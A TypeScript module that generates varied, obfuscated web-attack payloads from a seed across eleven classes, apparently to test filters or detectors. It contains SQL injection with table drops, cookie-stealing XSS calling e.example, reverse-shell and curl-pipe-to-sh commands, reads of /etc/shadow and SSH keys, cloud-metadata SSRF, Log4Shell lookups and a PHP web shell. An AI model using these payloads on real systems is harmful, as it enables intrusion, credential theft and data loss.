// Attacks by grammar: class × context × obfuscation, made anew from a seed. What they say is textbook; how they say it
// varies as attackers vary it.

import { randomOf } from './random.ts'
import type { Random } from './random.ts'

type Make = (random: Random) => string

const number = (r: Random): string => String(1 + r.below(9999))

const space: Make = (r) => r.pick([' ', ' ', ' ', '  ', '\t', '/**/', '/*x*/', '\n', '+'])

const cased = (r: Random, word: string): string => {
  const style = r.below(4)
  if (style === 0) return word
  if (style === 1) return word.toUpperCase()
  return word
    .split('')
    .map((letter) => (r.chance(0.5) ? letter.toUpperCase() : letter))
    .join('')
}

/** Words joined as SQL takes them. */
const sql = (r: Random, text: string): string => {
  const gap = space(r)
  return text
    .split(' ')
    .map((word) => (/^[a-z]+$/.test(word) ? cased(r, word) : word))
    .join(gap === '+' ? ' ' : gap)
}

const tail: Make = (r) => r.pick(['--', '-- -', '#', '/*', '', ' -- x', ';--', ';#'])

const brackets: Make = (r) => r.pick(['', '', ')', '))'])

const sqlBreak = (r: Random): string =>
  r.pick([
    `${r.pick(['', 'admin', 'x', '1', number(r)])}${r.pick(["'", "'", '"'])}${brackets(r)}`,
    `${r.pick(['', '-'])}${number(r)}${brackets(r)}`,
  ])

const truth: Make = (r) => {
  const n = number(r)
  return r.pick([
    `${n}=${n}`,
    `${n} = ${n}`,
    `'a'='a'`,
    `'${n}'='${n}'`,
    `${n}<${Number(n) + 1}`,
    `not false`,
    `${n} between 0 and 99999`,
    `'x' like 'x'`,
    `sleep(5)`,
    `(select 1)=1`,
    `ascii(substring((select password from users limit 1),1,1))>64`,
    `exists(select * from users)`,
  ])
}

const columns: Make = (r) =>
  Array.from({ length: 1 + r.below(6) }, () =>
    r.pick([
      'null',
      '1',
      number(r),
      "'a'",
      'user()',
      '@@version',
      'password',
      'concat(user,0x3a,pass)',
      '0x61',
    ]),
  ).join(',')

const sqli: Make = (r) => {
  const start = sqlBreak(r)
  const kind = r.below(8)
  if (kind <= 1) return `${start} ${sql(r, `${r.pick(['or', 'and'])} ${truth(r)}`)}${tail(r) || '--'}`
  if (kind === 2)
    return `${start} ${sql(r, `union ${r.pick(['', 'all '])}select ${columns(r)} from ${r.pick(['users', 'information_schema.tables', 'dual'])}`)}${tail(r)}`
  if (kind === 3)
    return `${start}; ${sql(r, r.pick(['drop table users', 'delete from users where 1=1', "insert into users values (1,'a')", "update users set role='admin'", "exec xp_cmdshell 'dir'", "waitfor delay '0:0:5'"]))}${tail(r) || '--'}`
  if (kind === 4) return `${start} ${sql(r, `order by ${number(r)}`)}${r.pick(['--', '#', '-- -'])}`
  if (kind === 5)
    return `${start} ${r.pick(['||', '+', '-'])} ${r.pick(['(select version())', '(select sleep(5))', 'sleep(5)', 'pg_sleep(5)'])}${r.pick(['--', '#', ''])}`
  if (kind === 6)
    return `${r.pick(['admin', 'root', 'x'])}${r.pick(["'", '"'])}${brackets(r)}${r.pick(['--', '#', ' -- -', '/*', ';--'])}`
  return `${r.pick(['x', ''])}' or '${r.pick(['1', 'a', 'x'])}'='${r.pick(['1', 'a', 'x'])}`
}

const sink: Make = (r) =>
  r.pick([
    'alert(1)',
    'alert`1`',
    'prompt(document.cookie)',
    'confirm(document.domain)',
    "eval(atob('YWxlcnQoMSk='))",
    "fetch('//e.example/'+document.cookie)",
    "top['al'+'ert'](1)",
    "location='//e.example'",
    "import('//e.example/x')",
  ])

const gap: Make = (r) => r.pick([' ', '/', '\t', '\n', '  ', '/ '])

const xss: Make = (r) => {
  const quote = r.pick(['"', "'"])
  switch (r.below(9)) {
    case 0:
      return `${r.pick(['', '">', "'>", '</title>', '</textarea>'])}<${cased(r, 'script')}>${sink(r)}</${cased(r, 'script')}>`
    case 1:
      return `<${cased(r, r.pick(['img', 'svg', 'body', 'video', 'input', 'details', 'marquee', 'x', 'iframe']))}${gap(r)}${r.pick(['', 'src=x ', 'a=b '])}${cased(r, r.pick(['onerror', 'onload', 'ontoggle', 'onfocus', 'onmouseover', 'onanimationstart', 'onpointerrawupdate']))}${r.pick(['', ' '])}=${r.pick(['', quote])}${sink(r).replaceAll(quote, '`')}>`
    case 2:
      return `${quote}${gap(r)}${cased(r, r.pick(['onmouseover', 'onfocus', 'onclick']))}=${quote}${sink(r).replaceAll(quote, '`')}${quote} x=${quote}`
    case 3:
      return `<a href=${quote}${r.pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'javascript&colon;', '&#106;avascript:', ' javascript:'])}${sink(r).replaceAll(quote, '`')}${quote}>x</a>`
    case 4:
      return `${r.pick(['javascript:', 'JAVASCRIPT:', 'jav\nascript:'])}${sink(r)}`
    case 5:
      return `${quote}${r.pick([';', '-', ')', '});'])}${r.pick([';', ''])}${r.pick(['alert(1)', 'alert(document.cookie)', 'prompt(1)'])}${r.pick(['//', `-${quote}`, `;${quote}`])}`
        .replace(/(["'])\)(alert|prompt)/, '$1);$2')
        .replace(/(["'])\}\);;?/, '$1});')
    case 6:
      return `<script src=${r.pick(['', quote])}${r.pick(['//', 'https://', 'data:text/javascript,'])}e.example/x.js></script>`
    case 7:
      return `<${r.pick(['iframe', 'object data=x', 'embed'])} ${r.pick(['src', 'data'])}=${quote}${r.pick(['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>'])}${quote}>`
    default:
      return `<math><a xlink:href=${quote}javascript:alert(1)${quote}>x</a></math>`
  }
}

const command: Make = (r) =>
  r.pick([
    'id',
    'whoami',
    'cat /etc/passwd',
    'ls -la',
    'uname -a',
    'sleep 5',
    'wget http://e.example/x.sh',
    'curl -s http://e.example/x | sh',
    'ping -c 3 127.0.0.1',
    'nc -e /bin/sh 10.0.0.1 4444',
    "bash -c 'id'",
    '/bin/cat /etc/shadow',
    "c''at /etc/passwd",
    'c\\at /etc/passwd',
    'cat${IFS}/etc/passwd',
    'who$@ami',
    '/???/c?t /???/p?ss??',
    'dir c:\\',
    'type c:\\windows\\win.ini',
    'powershell -enc SQBFAFgA',
    'net user',
    'echo vulnerable > /tmp/x',
    'python3 -c "import os"',
  ])

const shell: Make = (r) => {
  const before = r.pick(['', 'x', '127.0.0.1', 'file.txt', "'", '"'])
  const between = r.pick([';', '|', '||', '&&', '&', '\n', '; ', ' | ', ' && '])
  if (r.chance(0.25))
    return `${r.pick(['', 'x', 'a='])}${r.pick(['$(', '`'])}${command(r)}`
      .replace(/^(.*)\$\((.*)$/s, '$1$($2)')
      .replace(/^([^`]*)`([^`]*)$/s, '$1`$2`')
  return `${before}${between}${command(r)}${r.pick(['', '', ';', ' #', ' |'])}`
}

const climb: Make = (r) =>
  r.pick(['../', '..\\', '..%2f', '%2e%2e%2f', '..%252f', '....//', '..;/', '%c0%ae%c0%ae/', '..\\/'])

const target: Make = (r) =>
  r.pick([
    'etc/passwd',
    'etc/shadow',
    'windows/win.ini',
    'boot.ini',
    'proc/self/environ',
    'WEB-INF/web.xml',
    'var/log/apache2/access.log',
    '.ssh/id_rsa',
  ])

const path: Make = (r) => {
  if (r.chance(0.2))
    return r.pick([
      '/etc/passwd',
      'C:\\boot.ini',
      'file:///etc/passwd',
      'php://filter/convert.base64-encode/resource=index.php',
      '/proc/self/environ',
      'expect://id',
      'c:/windows/win.ini',
    ])
  return `${r.pick(['', '/', './', 'images/', '/var/www/'])}${climb(r).repeat(2 + r.below(7))}${target(r)}${r.pick(['', '', '%00', '%00.jpg', '\0.png'])}`
}

const ssrf: Make = (r) => {
  const host = r.pick([
    '127.0.0.1',
    'localhost',
    '169.254.169.254',
    '[::1]',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '127.1',
    '[::ffff:127.0.0.1]',
    '0.0.0.0',
    '192.168.1.1',
    '10.0.0.1',
    'metadata.google.internal',
    '127.0.0.1.nip.io',
    'example.com@127.0.0.1',
  ])
  if (r.chance(0.15))
    return r.pick([
      'gopher://127.0.0.1:6379/_INFO',
      'dict://127.0.0.1:11211/stat',
      'file:///etc/passwd',
      'ldap://127.0.0.1/x',
      'tftp://10.0.0.1/x',
    ])
  return `${r.pick(['http', 'https', 'HTTP', 'ftp'])}://${host}${r.pick(['', ':80', ':8080', ':22'])}${r.pick(['', '/', '/admin', '/latest/meta-data/iam/security-credentials/'])}`
}

const template: Make = (r) => {
  const inner = r.pick([
    `${number(r)}*${number(r)}`,
    "7*'7'",
    'config',
    "''.__class__.__mro__[1].__subclasses__()",
    "self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()",
    'request.application.__globals__',
    "cycler.__init__.__globals__.os.popen('id').read()",
    "_self.env.registerUndefinedFilterCallback('exec')",
    "['id']|filter('system')",
    "constructor.constructor('return process')()",
  ])
  if (r.chance(0.7))
    return `${r.pick(['', 'x', 'hello '])}{{${r.pick(['', ' '])}${inner}${r.pick(['', ' '])}}}`
  return r.pick([
    '${7*7}',
    '<%= 7*7 %>',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '#{7*7}',
    "<%= system('id') %>",
    "#set($x='')$x.class.forName('java.lang.Runtime')",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    '{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}',
    '@(7*7)',
    '*{7*7}',
    '${jndi:ldap://e.example/a}',
    '${${lower:j}ndi:${lower:l}dap://e.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://e.example/a}',
  ])
}

const nosql: Make = (r) =>
  r.pick([
    "' || '1'=='1",
    "'; return true; var x='",
    '{"$gt":""}',
    '{"$ne":null}',
    '{"username":{"$regex":"^a"}}',
    "true, $where: '1 == 1'",
    "' && this.password.match(/.*/)//",
    '[$ne]=1',
    "{$gt: ''}",
    `1, $where: 'sleep(${number(r)})'`,
    '{"$where":"sleep(1000)"}',
    "', $or: [ {}, { 'a':'a",
  ])

const ldap: Make = (r) =>
  r.pick([
    '*)(uid=*))(|(uid=*',
    'admin)(&)',
    '*)(objectClass=*',
    'x)(cn=*',
    '*))(|(password=*)',
    'admin)(!(&(1=0',
    '*)(|(mail=*',
    'a*)(&(objectClass=user)',
    `${number(r)})(cn=*))(|(cn=*`,
    '(&(uid=admin)(password=*))',
  ])

const xxe: Make = (r) =>
  `<?xml version="1.0"?><!DOCTYPE ${r.pick(['a', 'foo', 'r'])} [<!ENTITY ${r.pick(['', '% '])}x SYSTEM "${r.pick(['file:///etc/passwd', 'http://e.example/x.dtd', 'php://filter/resource=x', 'expect://id'])}">]><a>&x;</a>`

const code: Make = (r) =>
  r.pick([
    '<?php system($_GET["c"]); ?>',
    'phpinfo();',
    ";system('id');",
    "eval(base64_decode('cGhwaW5mbygp'))",
    "__import__('os').system('id')",
    "require('child_process').exec('id')",
    '<!--#exec cmd="id" -->',
    'O:8:"Evil_Obj":1:{s:1:"a";s:1:"b";}',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC',
    "_$$ND_FUNC$$_function(){require('child_process')}()",
    '!!python/object/apply:os.system ["id"]',
    '() { :;}; /bin/bash -c id',
    '${@print(md5(1))}',
    "java.lang.Runtime.getRuntime().exec('id')",
    "<%@ page import='java.io.*' %>",
    "'.system('id').'",
    '<esi:include src="http://e.example/x"/>',
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
  ])

const header: Make = (r) =>
  `${r.pick(['', 'x', '/next', 'en'])}${r.pick(['\r\n', '\n', '\r', '%0d%0a', '%0a', '%E5%98%8A%E5%98%8D'])}${r.pick(['Set-Cookie: a=b', 'Location: https://e.example/', 'Content-Length: 0', 'Set-Cookie:x=1', 'Transfer-Encoding: chunked'])}`

export const classes: Readonly<Record<string, Make>> = {
  sqli,
  xss,
  shell,
  path,
  ssrf,
  template,
  nosql,
  ldap,
  xxe,
  code,
  header,
}

export type AttackClass = keyof typeof classes

/** So many different attacks of a class. */
export const attacks = (name: string, count: number, seed: number): readonly string[] => {
  const random = randomOf(seed)
  const make = classes[name]
  if (make === undefined) throw new Error(`no class ${name}`)
  const made = new Set<string>()
  for (let tries = 0; made.size < count && tries < count * 20; tries++) made.add(make(random))
  return [...made]
}
